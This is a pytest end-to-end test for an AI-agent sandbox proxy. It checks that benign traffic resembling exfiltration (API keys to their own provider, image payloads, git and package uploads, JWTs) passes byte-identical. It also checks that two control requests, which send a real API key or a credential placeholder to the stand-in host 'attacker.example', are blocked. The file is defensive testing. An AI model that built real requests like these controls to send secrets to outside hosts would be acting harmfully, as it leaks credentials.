"""The benign corpus (bench/exfil/benign.py) through a real cage's proxy, untouched.

Legitimate traffic that looks like exfiltration to a naive scanner (a key sent to its own
provider, base64 images in LLM requests, gzip telemetry, git push packs, npm and PyPI
uploads, OAuth JWTs, ...) must pass. One agent exec replays every case from inside the
cage; each is then checked from three sides: the agent got the upstream's normal answer,
the fake internet received exactly the bytes the agent sent (the placeholder swapped for
the real key toward api.anthropic.com only), and the audit log holds no block for it.
Two malicious controls in the same run must be blocked, so a bypassed proxy fails here.

The cage is its own (`fp`, allowing the corpus's hosts), so this module does not depend
on test_cage.py's cage, which that module destroys.
"""

from __future__ import annotations

import base64
import hashlib
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from typing import Any

import pytest
from bench.exfil.benign import PLACEHOLDER, benign_cases
from bench.exfil.cases import Step
from bench.exfil.world import make_secrets

from tests.e2e.conftest import REAL_KEY
from tests.e2e.harness import IDLE, Harness, Internet, e2e_config, run

CAGE = "fp"
AGENT = f"agentcage-{CAGE}-agent"
STEP_HEADER = "x-e2e-step"  # lets the test find each request at the fake internet
WS_PATH = "/ws/benign"  # test_cage.py's sockets, in the same fake internet, use /ws
CONTROL_HOST = "attacker.example"  # allowlisted here: only the secret scanner stands between
ALLOW = [
    "anthropic.com",
    "github.com",
    "openai.com",
    "npmjs.org",
    "pypi.org",
    "pythonhosted.org",
    "sentry.io",
    "example.com",
    CONTROL_HOST,
]


@dataclass(frozen=True)
class Sent:
    """One HTTP request of the plan, as the agent sends it."""

    id: str
    host: str
    method: str
    path: str
    headers: tuple[tuple[str, str], ...]
    body: bytes
    http2: bool = False

    def plan(self) -> dict[str, Any]:
        return {
            "id": self.id,
            "method": self.method,
            "url": f"https://{self.host}{self.path}",
            "headers": [*self.headers, (STEP_HEADER, self.id)],
            "body": base64.b64encode(self.body).decode(),
            "http2": self.http2,
        }

    def expected_header(self, name: str, value: str) -> str:
        """What the upstream should see: the real key only where it is injected."""
        if self.host.endswith("anthropic.com"):
            return value.replace(PLACEHOLDER, REAL_KEY)
        return value


@dataclass
class Plan:
    benign: list[Sent] = field(default_factory=list)
    controls: list[Sent] = field(default_factory=list)
    websocket: dict[str, list[str]] = field(default_factory=dict)

    def to_json(self) -> str:
        return json.dumps(
            {
                "http": [s.plan() for s in [*self.benign, *self.controls]],
                "ws": [
                    {"id": i, "url": f"wss://api.anthropic.com{WS_PATH}", "messages": m}
                    for i, m in self.websocket.items()
                ],
            }
        )


def build_plan() -> Plan:
    """Every benign shape once, plus malicious controls built from the image case."""
    plan = Plan()
    image: Step | None = None
    for case in benign_cases(make_secrets(7), seed=7, reps=1):
        for n, step in enumerate(case.steps):
            assert step.kind == "http" and not step.plain, f"{case.id}: unhandled {step.kind}"
            # Each request once over HTTP/1.1 and once over HTTP/2 (agent to proxy). The
            # 25-page crawl goes once: twice would exceed the default per-host rate limit
            # (burst 50), which is the limit doing its job, not a false positive.
            versions = [(False, "")]
            if case.technique != "paginated-crawl":
                versions.append((True, "@h2"))
            for http2, suffix in versions:
                plan.benign.append(
                    Sent(
                        f"{case.id}#{n}{suffix}",
                        step.host,
                        step.method,
                        step.path,
                        step.headers,
                        step.body,
                        http2,
                    )
                )
            if case.technique == "llm-image":
                image = step
    assert image is not None, "the corpus lost its llm-image case"
    request = json.loads(image.body)
    request["messages"][0]["content"].append({"type": "text", "text": f"key: {REAL_KEY}"})
    plan.controls = [
        # The image request carrying the real key, to an allowlisted host.
        Sent(
            "control/real-key-in-image",
            CONTROL_HOST,
            "POST",
            "/v1/messages",
            (("content-type", "application/json"),),
            json.dumps(request).encode(),
        ),
        # The unchanged image request, its placeholder aimed at the wrong host.
        Sent(
            "control/placeholder",
            CONTROL_HOST,
            "POST",
            "/v1/messages?wrong-host",
            image.headers,
            image.body,
        ),
    ]
    jwt = next(
        v.removeprefix("Bearer ")
        for s in plan.benign
        for k, v in s.headers
        if k == "authorization" and v.startswith("Bearer ")
    )
    screenshot = json.loads(image.body)["messages"][0]["content"][0]["source"]["data"][:30_000]
    plan.websocket["ws/jwt-and-image"] = [
        json.dumps({"type": "session.auth", "token": jwt}),
        json.dumps({"type": "input_image", "media_type": "image/png", "data": screenshot}),
    ]
    return plan


def audit(harness: Harness) -> list[dict[str, Any]]:
    path = harness.config_home / f"agentcage/deployments/{CAGE}/audit/proxy/proxy.jsonl"
    return [json.loads(line) for line in path.read_text().splitlines() if line.strip()]


@pytest.fixture(scope="module")
def fp_cage(harness: Harness, internet: Internet) -> Iterator[str]:
    data = json.loads(e2e_config(harness, IDLE).read_text())
    data["name"] = CAGE
    data["domains"] = {"allow": ALLOW}
    data["container"].pop("ports")  # the basic cage may hold the published port
    config = harness.shared / f"{CAGE}.yaml"
    config.write_text(json.dumps(data, indent=2))
    result = harness.agentcage(
        "cage", "create", "-c", str(config), "--upstream-ca", str(internet.ca_pem)
    )
    assert result.returncode == 0, result.stderr
    try:
        result = harness.agentcage("secret", "set", CAGE, "ANTHROPIC_API_KEY", input=REAL_KEY)
        assert result.returncode == 0, result.stderr
        yield CAGE
    finally:
        harness.agentcage("cage", "destroy", CAGE, "-y")


@dataclass
class Run:
    plan: Plan
    outcome: dict[str, Any]
    arrived: dict[str, list[dict[str, Any]]]  # step id -> what reached the fake internet
    websocket_messages: list[str]
    audit: list[dict[str, Any]]


@pytest.fixture(scope="module")
def replay(harness: Harness, internet: Internet, fp_cage: str) -> Run:
    plan = build_plan()
    out = run(
        [
            "podman", "exec", "-i", harness.name,
            "podman", "exec", "-i", "-e", "PYTHONPATH=/e2e-site", AGENT,
            "python3", "/e2e/benign_agent.py",
        ],
        input=plan.to_json(),
        timeout=300,
    )  # fmt: skip
    arrived: dict[str, list[dict[str, Any]]] = {}
    messages: list[str] = []
    for record in internet.http():
        headers = record["headers"]
        assert isinstance(headers, dict)
        if STEP_HEADER in headers:
            arrived.setdefault(str(headers[STEP_HEADER]), []).append(record)
        if record["kind"] == "websocket" and record["path"] == WS_PATH:
            messages.append(str(record["message"]))
    return Run(plan, json.loads(out.strip().splitlines()[-1]), arrived, messages, audit(harness))


def test_the_plan_covers_every_benign_shape() -> None:
    plan = build_plan()
    cases = {s.id.split("/")[0] for s in plan.benign}
    shapes = {
        "llm-chat", "llm-image", "gzip-telemetry", "git-push", "npm-publish", "pypi-upload",
        "oauth-jwt", "json-api-ids", "known-secret-to-its-home", "llm-long-context",
    }  # fmt: skip
    assert shapes <= cases
    kinds = {dict(s.headers).get("content-type", "").split(";")[0] for s in plan.benign}
    assert {"application/x-git-receive-pack-request", "multipart/form-data"} <= kinds
    assert any(PLACEHOLDER in v for s in plan.benign for _, v in s.headers)


def test_every_benign_request_gets_the_upstreams_normal_answer(replay: Run) -> None:
    wrong = {}
    for sent in replay.plan.benign:
        got = replay.outcome[sent.id]
        normal = json.dumps({"ok": True, "path": sent.path.split("?")[0]})
        version = "HTTP/2" if sent.http2 else "HTTP/1.1"
        if (got.get("status"), got.get("body"), got.get("version")) != (200, normal, version):
            wrong[sent.id] = got
    assert not wrong, f"{len(wrong)} benign requests were refused or changed: {wrong}"


def test_every_benign_request_arrives_byte_identical(replay: Run) -> None:
    differs: dict[str, str] = {}
    for sent in replay.plan.benign:
        arrivals = replay.arrived.get(sent.id, [])
        if len(arrivals) != 1:
            differs[sent.id] = f"arrived {len(arrivals)} times"
            continue
        (got,) = arrivals
        path, _, query = sent.path.partition("?")
        if (got["host"], got["method"], got["raw_path"], got["query"]) != (
            sent.host,
            sent.method,
            path,
            query,
        ):
            differs[sent.id] = f"request line {got['method']} {got['host']}{got['raw_path']}"
        elif (got["size"], got["sha256"]) != (
            len(sent.body),
            hashlib.sha256(sent.body).hexdigest(),
        ):
            differs[sent.id] = f"body {got['size']} bytes, sent {len(sent.body)}"
        for name, value in sent.headers:
            if got["headers"].get(name) != sent.expected_header(name, value):
                differs[sent.id] = f"header {name}"
    assert not differs, differs
    # The injection really happened (and only where it should).
    keyed = [i for i, a in replay.arrived.items() if a[0]["headers"].get("x-api-key") == REAL_KEY]
    assert keyed and all(replay.arrived[i][0]["host"] == "api.anthropic.com" for i in keyed)


def test_the_audit_log_shows_no_block_for_any_benign_request(replay: Run) -> None:
    records = [r for r in replay.audit if r["kind"] == "http"]
    missing, blocked = [], []
    for sent in replay.plan.benign:
        path = sent.path.split("?")[0]
        mine = [r for r in records if r["host"] == sent.host and r["path"].split("?")[0] == path]
        if not mine:
            missing.append(sent.id)
        blocked += [
            f"{sent.id}: {r['inspector']} {r['reason']}" for r in mine if r["verdict"] == "block"
        ]
    assert not blocked, blocked
    assert not missing, f"no audit record for {missing}"


def test_websocket_messages_pass_unchanged(replay: Run) -> None:
    (sent,) = replay.plan.websocket.values()
    assert replay.outcome["ws/jwt-and-image"] == {"echoed": sent, "closed": None}
    assert replay.websocket_messages == sent
    frames = [r for r in replay.audit if r["kind"] == "websocket"]
    assert not [r for r in frames if r["verdict"] == "block"]


def test_malicious_controls_in_the_same_run_are_blocked(replay: Run) -> None:
    for sent in replay.plan.controls:
        assert replay.outcome[sent.id]["status"] == 403, sent.id
        assert sent.id not in replay.arrived, f"{sent.id} reached the internet"
    blocks = [r for r in replay.audit if r["host"] == CONTROL_HOST and r["verdict"] == "block"]
    assert len(blocks) == len(replay.plan.controls)
    assert REAL_KEY not in json.dumps(replay.audit)
